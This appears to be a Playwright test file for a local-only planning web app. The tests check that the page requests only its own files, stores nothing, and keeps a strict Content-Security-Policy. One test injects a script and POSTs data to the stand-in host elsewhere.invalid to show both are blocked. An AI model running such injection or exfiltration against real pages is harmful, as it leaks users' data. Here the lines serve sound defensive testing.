// What the README promises about the page itself: nothing leaves it, and it is there at once.
import fs from 'node:fs';
import path from 'node:path';
import { expect, test } from './support/fixtures.mjs';
import { FilesPage, choose } from './pages/files.mjs';
import { RolesPage } from './pages/roles.mjs';
import { StartPage } from './pages/start.mjs';

const dist = path.join(import.meta.dirname, '../../dist');

test('over a whole journey the page asks for its own files, once each, and for nothing else', { tag: '@once' }, async ({ page, site }) => {
  const requests = [];
  page.on('request', (request) => {
    if (!request.url().startsWith('blob:')) requests.push(request);
  });
  const start = await StartPage.open(page);
  await start.sample.click();
  await expect(start.planName).toHaveValue('What five articles say');
  await start.goToLists();
  const roles = new RolesPage(page);
  await roles.typeOn(roles.responsibilities.first(), ' secret plan');
  await roles.putAway(await roles.responsibilities.nth(1).inputValue()).click();
  const files = await FilesPage.of(page);
  await files.name.fill('Anna');
  const text = await files.exported('secret note');
  await files.planName.fill('Another name');
  await choose(page, files.openFile, 'plan.json', text);
  await files.arrival.getByRole('button', { name: 'Open as a copy' }).click();
  await expect(files.planName).toHaveValue(/\(copy\)$/);
  await page.keyboard.press('Control+k');
  await files.search.fill('secret');
  await page.keyboard.press('Escape');
  await files.theme.click();

  const asked = requests.map((request) => ({ method: request.method(), url: request.url(), body: request.postData() }));
  const own = fs.readdirSync(dist);
  for (const { method, url, body } of asked) {
    expect(url.startsWith(site.url), url).toBe(true);
    expect([method, body], url).toEqual(['GET', null]);
    const name = url.slice(site.url.length).replace(/#.*$/, '');
    expect(name === '' || own.includes(name), `${url} is a file of the page, without a query`).toBe(true);
  }
  // The icon is the browser's own affair: it asks for it as often as it likes.
  const names = asked.map(({ url }) => url.replace(/#.*$/, '')).filter((name) => !/\/icon-/.test(name));
  expect(names.filter((name, at) => names.indexOf(name) !== at), 'nothing is fetched twice').toEqual([]);
  expect(asked.length).toBeGreaterThan(3);
});

test('no cookie, no database, no cache, no worker', { tag: '@once' }, async ({ page, context }) => {
  const roles = await RolesPage.withNewPlan(page);
  await roles.typeOn(roles.responsibilities.first(), '!');
  expect(await context.cookies()).toEqual([]);
  expect(await page.evaluate(async () => ({
    databases: (await indexedDB.databases()).length,
    caches: globalThis.caches ? (await caches.keys()).length : 0,
    workers: navigator.serviceWorker ? (await navigator.serviceWorker.getRegistrations()).length : 0,
    keys: Object.keys(localStorage).filter((key) => !key.startsWith('tandem/')).length,
  }))).toEqual({ databases: 0, caches: 0, workers: 0, keys: 0 });
});

test('the policy of the page stands in the page, and is tight', { tag: '@once' }, async ({ page }) => {
  await page.goto('./');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  const rules = new Map(policy.split(';').map((rule) => rule.trim().split(/\s+/)).map(([name, ...values]) => [name, values.join(' ')]));
  expect(rules.get('default-src')).toBe("'none'");
  expect(rules.get('script-src')).toBe("'self' 'wasm-unsafe-eval'");
  expect(rules.get('style-src')).toBe("'self'");
  expect(rules.get('connect-src')).toBe("'self'");
  for (const name of ['frame-src', 'base-uri', 'form-action']) expect(rules.get(name), name).toBe("'none'");
  // The first thing after the encoding: what comes before a policy is not under it.
  const html = fs.readFileSync(path.join(dist, 'index.html'), 'utf8');
  expect(html.indexOf('Content-Security-Policy')).toBeLessThan(html.search(/<(script|link|style)/));
  expect(html).not.toMatch(/<script(?![^>]*\ssrc=)/);
});

test('a script that somebody sneaks in does not run, and data cannot be sent', { tag: '@once' }, async ({ page, provoke }) => {
  provoke(/script-src|Content Security Policy/);
  provoke(/connect-src/);
  provoke(/out of the page's own folder|violation/);
  await StartPage.open(page);
  const out = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'globalThis.sneaked = true';
    document.body.append(script);
    script.remove();
    const sent = await fetch('https://elsewhere.invalid/', { method: 'POST', body: 'plan' }).then(() => 'sent', () => 'stopped');
    return { sneaked: globalThis.sneaked ?? false, sent };
  });
  expect(out).toEqual({ sneaked: false, sent: 'stopped' });
});

test('the first paint needs neither JavaScript nor wasm', async ({ page }) => {
  let arrive;
  const gate = new Promise((open) => { arrive = open; });
  await page.route(/\.(wasm|js)$/, async (route) => {
    await gate;
    await route.continue();
  });
  await page.goto('./', { waitUntil: 'commit' });
  await expect(page.getByText('Tandem', { exact: true })).toBeVisible();
  const painted = await page.waitForFunction(() => performance.getEntriesByName('first-contentful-paint')[0]?.startTime);
  expect(await painted.jsonValue()).toBeGreaterThan(0);
  expect(await page.evaluate(() => performance.getEntriesByName('tandem:start').length)).toBe(0);
  arrive();
  await expect(new StartPage(page).heading).toBeVisible();
});

test('the page marks its work, so that anybody can measure it', { tag: '@once' }, async ({ page }) => {
  const roles = await RolesPage.withNewPlan(page);
  await roles.typeOn(roles.responsibilities.first(), '!');
  const names = () => page.evaluate(() => [...new Set(performance.getEntriesByType('measure').map((entry) => entry.name))].sort());
  await expect.poll(names).toEqual(expect.arrayContaining(['tandem:commit', 'tandem:start']));
});
